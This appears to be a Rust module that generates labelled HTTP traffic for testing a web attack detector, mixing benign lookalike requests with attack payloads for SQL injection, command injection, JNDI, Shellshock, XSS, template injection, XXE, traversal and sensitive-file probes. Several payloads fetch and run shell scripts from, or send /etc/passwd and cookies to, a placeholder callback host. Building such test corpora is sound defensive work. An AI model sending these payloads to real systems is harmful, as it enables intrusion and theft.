//! What is sent: attack requests of every kind, unmistakable but varied, and honest requests that look a
//! little like attacks. All written for this project.

use serde::Deserialize;

use super::random::Random;

/// A kind of attack, finer than a class where two kinds share one.
#[derive(Clone, Copy, Debug, Deserialize, Eq, Hash, Ord, PartialEq, PartialOrd)]
#[serde(rename_all = "lowercase")]
pub enum Kind {
    /// Script code injection.
    Code,
    /// Operating-system command injection.
    Command,
    /// JNDI lookups.
    Jndi,
    /// A probe of the site's own back office, which only a rule of its operator knows.
    Local,
    /// A scanner that names itself.
    Scanner,
    /// Probes for sensitive files.
    Sensitive,
    /// Shellshock.
    Shellshock,
    /// SQL injection.
    Sqli,
    /// Template injection.
    Template,
    /// Path traversal.
    Traversal,
    /// Cross-site scripting.
    Xss,
    /// XML external entities.
    Xxe,
}

/// A request pattern. `{n}` is a number, `{w}` a word, `{x}` eight hex digits, `{ip}` a callback address.
struct Pattern {
    target: &'static str,
    /// A further header line without the line end, or nothing. A `User-Agent` here takes the browser's place.
    header: &'static str,
    /// Content type and body; a body makes it a POST.
    body: Option<(&'static str, &'static str)>,
    /// Whether it is aimed at one known hole of one product.
    cve: bool,
}

const fn target(target: &'static str) -> Pattern {
    Pattern { target, header: "", body: None, cve: false }
}

const fn header(target: &'static str, header: &'static str) -> Pattern {
    Pattern { target, header, body: None, cve: false }
}

const fn post(target: &'static str, kind: &'static str, body: &'static str) -> Pattern {
    Pattern { target, header: "", body: Some((kind, body)), cve: false }
}

const fn cve(mut pattern: Pattern) -> Pattern {
    pattern.cve = true;
    pattern
}

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";
const XML: &str = "application/xml";

const CODE: &[Pattern] = &[
    target("/page.php?code=%3C%3Fphp%20system($_GET%5B%27{w}%27%5D)%3B%20%3F%3E"),
    target("/index.php?f=phpinfo()%3B&v=eval(base64_decode(%27cGhwaW5mbygpOw%3D%3D%27))"),
    post("/upload/run.php", FORM, "z{n}=eval%28base64_decode%28%24_POST%5B%27{w}%27%5D%29%29%3B"),
    target("/{w}.php?data=%3C%3Fphp%20echo%20shell_exec(%22id%22)%3B%20%3F%3E"),
    cve(post(
        "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
        FORM,
        "<?php echo md5('{w}'); system('id'); ?>",
    )),
];

const COMMAND: &[Pattern] = &[
    target("/ping.cgi?host=127.0.0.1;cat%20/etc/passwd"),
    target("/tools/lookup?name={w}%7Cwget%20http://{ip}/{x}.sh%20-O-%7Csh"),
    target("/cgi-bin/status?if=eth0%60id%60;uname%20-a"),
    post("/diag", FORM, "target={ip}%26%26curl+-s+http%3A%2F%2F{ip}%2F{x}%7Cbash"),
    target("/report?file={w}.txt;rm%20-rf%20/tmp/{x};wget%20http://{ip}/{w}%20-O%20/tmp/{x};sh%20/tmp/{x}"),
    target("/api/convert?out=$(curl%20http://{ip}/{x}|sh)"),
    post("/api/ping", JSON, "{\"host\":\"8.8.8.8; cat /etc/passwd | nc {ip} {n}\"}"),
];

const JNDI: &[Pattern] = &[
    header("/", "X-Api-Version: ${jndi:ldap://{ip}:1389/{w}}"),
    header("/login", "User-Agent: ${jndi:ldap://{ip}/{x}}"),
    target("/search?q=$%7Bjndi:rmi://{ip}:1099/{w}%7D"),
    header("/{w}", "Referer: ${${lower:j}ndi:${lower:l}dap://{ip}/{x}}"),
    post("/api/login", JSON, "{\"user\":\"${jndi:dns://{x}.{ip}.example.net/a}\",\"password\":\"{w}\"}"),
];

const LOCAL: &[Pattern] =
    &[target("/intern/{w}/export?sheet={n}"), target("/intern/{w}/list?page={n}&sort=name")];

const SCANNER: &[Pattern] = &[
    header("/", "User-Agent: sqlmap/1.7.{n}#stable (https://sqlmap.org)"),
    header("/{w}/", "User-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{n})"),
    header(
        "/",
        "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    ),
    header("/{w}", "User-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
    header("/{w}-{n}", "User-Agent: gobuster/3.6"),
    header("/{w}", "User-Agent: Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
    header("/", "User-Agent: Mozilla/5.0 zgrab/0.x"),
];

const SENSITIVE: &[Pattern] = &[
    target("/.env"),
    target("/.git/config"),
    target("/{w}/.git/HEAD"),
    target("/wp-config.php.bak"),
    target("/.aws/credentials"),
    target("/.ssh/id_rsa"),
    target("/backup/.htpasswd"),
    target("/{w}/.env"),
    target("/.svn/entries"),
];

const SHELLSHOCK: &[Pattern] = &[
    header("/cgi-bin/{w}.cgi", "User-Agent: () { :; }; /bin/bash -c \"wget http://{ip}/{x} -O /tmp/{x}\""),
    cve(header("/cgi-bin/test-cgi", "Referer: () { ignored; }; echo; /bin/cat /etc/passwd")),
    header("/cgi-bin/{w}", "Cookie: () { :;}; /usr/bin/id"),
];

const SQLI: &[Pattern] = &[
    target("/item?id={n}%27%20UNION%20SELECT%20username,password,{n}%20FROM%20users--%20-"),
    target("/news.php?id={n}+AND+1=1+UNION+ALL+SELECT+NULL,NULL,CONCAT(0x71,version(),0x71),NULL--"),
    target("/list?cat={w}%27%20OR%20%271%27=%271"),
    target("/product?pid={n}%20or%20{n}={n}--"),
    target("/view?id={n}%3B%20DROP%20TABLE%20{w}%3B--"),
    target("/show?id={n}%20AND%20SLEEP(5)"),
    target(
        "/item?id={n}%27%20AND%20(SELECT%20{n}%20FROM(SELECT%20COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x%20FROM%20information_schema.tables%20GROUP%20BY%20x)a)--%20-",
    ),
    target("/q?id={n}%3BWAITFOR%20DELAY%20%270:0:5%27--"),
    post("/login", FORM, "user=admin%27+OR+%271%27%3D%271%27+--+&password={w}"),
    post(
        "/api/v1/search",
        JSON,
        "{\"filter\":\"{w}' UNION SELECT table_name, null FROM information_schema.tables -- \",\"page\":{n}}",
    ),
    header("/account", "Cookie: session={x}; uid=1' OR '1'='1' -- "),
];

const TEMPLATE: &[Pattern] = &[
    target("/hello?name=%7B%7B{n}*{n}%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D"),
    target("/preview?tpl=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D"),
    post(
        "/render",
        FORM,
        "body=%3C%23assign+ex%3D%22freemarker.template.utility.Execute%22%3Fnew%28%29%3E%24%7Bex%28%22id%22%29%7D",
    ),
    target(
        "/card?to=%7B%7Brequest.application.__globals__.__builtins__.__import__(%27os%27).popen(%27id%27).read()%7D%7D",
    ),
];

const TRAVERSAL: &[Pattern] = &[
    target("/download?file=../../../../../../etc/passwd"),
    target("/static/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd"),
    target("/index.php?page=php://filter/convert.base64-encode/resource=../../{w}"),
    target("/img?src=....//....//....//....//etc/shadow"),
    cve(target("/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd")),
    target("/view?doc=..%5c..%5c..%5c..%5cwindows%5cwin.ini"),
    target("/get?path=%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
];

const XSS: &[Pattern] = &[
    target("/search?q=%3Cscript%3Ealert({n})%3C/script%3E"),
    target("/profile?name=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E"),
    target("/go?u=javascript:alert(String.fromCharCode(88,83,83))&t=%3Csvg/onload=alert({n})%3E"),
    target("/tag?t=%3Csvg%20onload=fetch(%27//{ip}/%27%2Bdocument.cookie)%3E"),
    post("/comment", FORM, "name={w}&text=%3Cscript+src%3D%2F%2F{ip}%2F{x}.js%3E%3C%2Fscript%3E"),
    post(
        "/api/comment",
        JSON,
        "{\"author\":\"{w}\",\"text\":\"<img src=x onerror=\\\"eval(atob('YWxlcnQoMSk='))\\\">\"}",
    ),
];

const XXE: &[Pattern] = &[
    post(
        "/api/import",
        XML,
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r><name>{w}</name><text>&x;</text></r>",
    ),
    post(
        "/soap",
        XML,
        "<?xml version=\"1.0\" encoding=\"utf-8\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://{ip}/{x}.dtd\"> %d;]><r>{n}</r>",
    ),
];

/// Honest requests, those among them that a careless detector takes for attacks included.
const BENIGN: &[Pattern] = &[
    target("/"),
    target("/index.html"),
    target("/favicon.ico"),
    target("/robots.txt"),
    target("/news/{n}/the-town-{w}"),
    target("/style/main.css?v={n}"),
    target("/js/app.{x}.js"),
    target("/images/{w}-{n}.jpg"),
    target("/search?q=select+committee+report+from+the+union+of+{w}+workers"),
    target("/search?q=O%27Brien+and+d%27Arc"),
    target("/search?q=drop+table+lamps+or+a+folding+table"),
    target("/search?q=cat+food+%26+dog+food"),
    target("/search?q=script+of+the+play+%22{w}%22"),
    target("/search?q=1+%2B+1+%3D+2"),
    target("/search?q=if+x+%3C+{n}+and+y+%3E+5"),
    target("/search?q=%E6%96%B0%E9%97%BB+{w}"),
    target("/list?page={n}&sort=name&order=desc&limit=20"),
    target("/account?next=%2Forders%2F{n}"),
    header("/basket", "Cookie: sid={x}{x}; _ga=GA1.2.{n}.1335830400; consent={\"ads\":false,\"stats\":true}"),
    post(
        "/contact",
        FORM,
        "name=J.+O%27Neill&email={w}%40mail.example&message=Hello%2C+I+can%27t+log+in+--+please+help%21",
    ),
    post("/login", FORM, "user={w}&password=pa%24%24w0rd%21{n}&remember=1"),
    post(
        "/api/cart",
        JSON,
        "{\"items\":[{\"id\":{n},\"count\":2}],\"note\":\"leave at the door; thanks & bye\"}",
    ),
    post("/api/feedback", JSON, "{\"text\":\"the <b>new</b> page is 10% faster, isn't it?\",\"stars\":5}"),
];

const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/536.5 (KHTML, like Gecko) Chrome/19.0.1084.52 Safari/536.5",
    "Mozilla/5.0 (Windows NT 6.1; rv:12.0) Gecko/20120403211507 Firefox/12.0",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)",
    "Mozilla/5.0 (iPad; CPU OS 5_1 like Mac OS X) AppleWebKit/534.46 (KHTML, like Gecko) Version/5.1 Mobile/9B176 Safari/7534.48.3",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
];

const WORDS: &[&str] = &[
    "harbour", "lantern", "willow", "orchard", "granite", "meadow", "copper", "thistle", "saffron",
    "juniper", "marble", "heron", "cobalt", "barley", "quartz", "linden",
];

impl Kind {
    /// Classes that may be its primary one: the first is the plain reading, the others are as right.
    pub const fn classes(self) -> &'static [&'static str] {
        match self {
            Self::Code => &["web.code", "web.cve"],
            Self::Command => &["web.rce"],
            Self::Jndi => &["web.java", "web.cve"],
            Self::Scanner => &["web.scan"],
            Self::Local | Self::Sensitive => &["web.sensitive"],
            Self::Shellshock => &["web.rce", "web.cve"],
            Self::Sqli => &["web.sqli"],
            Self::Template => &["web.ssti"],
            Self::Traversal => &["web.lfi", "web.cve"],
            Self::Xss => &["web.xss"],
            Self::Xxe => &["web.xxe"],
        }
    }

    /// Whether the built-in rules know it.
    pub const fn is_built_in(self) -> bool {
        !matches!(self, Self::Local)
    }

    const fn patterns(self) -> &'static [Pattern] {
        match self {
            Self::Code => CODE,
            Self::Command => COMMAND,
            Self::Jndi => JNDI,
            Self::Local => LOCAL,
            Self::Scanner => SCANNER,
            Self::Sensitive => SENSITIVE,
            Self::Shellshock => SHELLSHOCK,
            Self::Sqli => SQLI,
            Self::Template => TEMPLATE,
            Self::Traversal => TRAVERSAL,
            Self::Xss => XSS,
            Self::Xxe => XXE,
        }
    }
}

/// An attack request of that kind.
pub fn attack(kind: Kind, host: &str, random: &mut Random) -> Vec<u8> {
    let pattern = random.pick(kind.patterns());
    write(pattern, host, random)
}

/// The one class that the attack of that kind has which [`attack`] writes with the same randomness.
pub fn class(kind: Kind, random: &Random) -> &'static str {
    let pattern = random.clone().pick(kind.patterns());
    if pattern.cve { "web.cve" } else { kind.classes().first().copied().unwrap_or_default() }
}

/// A request of an honest visitor.
pub fn benign(host: &str, random: &mut Random) -> Vec<u8> {
    let pattern = random.pick(BENIGN);
    write(pattern, host, random)
}

/// Bytes of the cookie that makes some requests longer than one segment.
const LONG_COOKIE_BYTES: (u64, u64) = (1_000, 4_000);

fn write(pattern: &Pattern, host: &str, random: &mut Random) -> Vec<u8> {
    let browser = *random.pick(BROWSERS);
    let body = pattern.body.map(|(kind, text)| (kind, fill(text, random)));
    let method = if body.is_some() { "POST" } else { "GET" };
    let mut lines =
        vec![format!("{method} {} HTTP/1.1", fill(pattern.target, random)), format!("Host: {host}")];
    if !pattern.header.starts_with("User-Agent:") {
        lines.push(format!("User-Agent: {browser}"));
    }
    lines.push("Accept: text/html,application/xhtml+xml,*/*;q=0.8".to_owned());
    lines.push("Accept-Language: en-US,en;q=0.5".to_owned());
    if !pattern.header.is_empty() {
        lines.push(fill(pattern.header, random));
    }
    if random.chance(6) && !pattern.header.starts_with("Cookie:") {
        let words = random.between(LONG_COOKIE_BYTES.0, LONG_COOKIE_BYTES.1) / 8;
        let value: String = (0..words).map(|_| hex(random)).collect();
        lines.push(format!("Cookie: prefs={value}"));
    }
    let (kind, body) = body.unwrap_or_default();
    if !body.is_empty() {
        lines.push(format!("Content-Type: {kind}"));
        lines.push(format!("Content-Length: {}", body.len()));
    }
    format!("{}\r\n\r\n{body}", lines.join("\r\n")).into_bytes()
}

fn hex(random: &mut Random) -> String {
    format!("{:08x}", random.next() as u32)
}

/// The pattern with its placeholders filled in; braces that are no placeholder stay.
fn fill(pattern: &str, random: &mut Random) -> String {
    let mut text = String::with_capacity(pattern.len() + 32);
    let mut rest = pattern;
    while let Some((before, after)) = rest.split_once('{') {
        text.push_str(before);
        let (name, tail) = after.split_once('}').unwrap_or(("", after));
        match name {
            "n" => text.push_str(&random.between(2, 9_999).to_string()),
            "w" => text.push_str(random.pick::<&str>(WORDS)),
            "x" => text.push_str(&hex(random)),
            "ip" => {
                text.push_str("192.0.2.");
                text.push_str(&random.between(1, 254).to_string());
            }
            _ => {
                text.push('{');
                rest = after;
                continue;
            }
        }
        rest = tail;
    }
    text.push_str(rest);
    text
}

/// A small reply: status line, headers, body.
pub fn reply(attack: bool, random: &mut Random) -> Vec<u8> {
    let status = match (attack, random.below(10)) {
        (true, 0..=4) | (false, 0) => "404 Not Found",
        (true, 5..=7) => "403 Forbidden",
        _ => "200 OK",
    };
    let filler = "<p>The page is kept short.</p>".repeat(random.between(1, 6) as usize);
    let body = format!("<!doctype html><title>{status}</title>{filler}");
    format!(
        "HTTP/1.1 {status}\r\nServer: httpd\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}
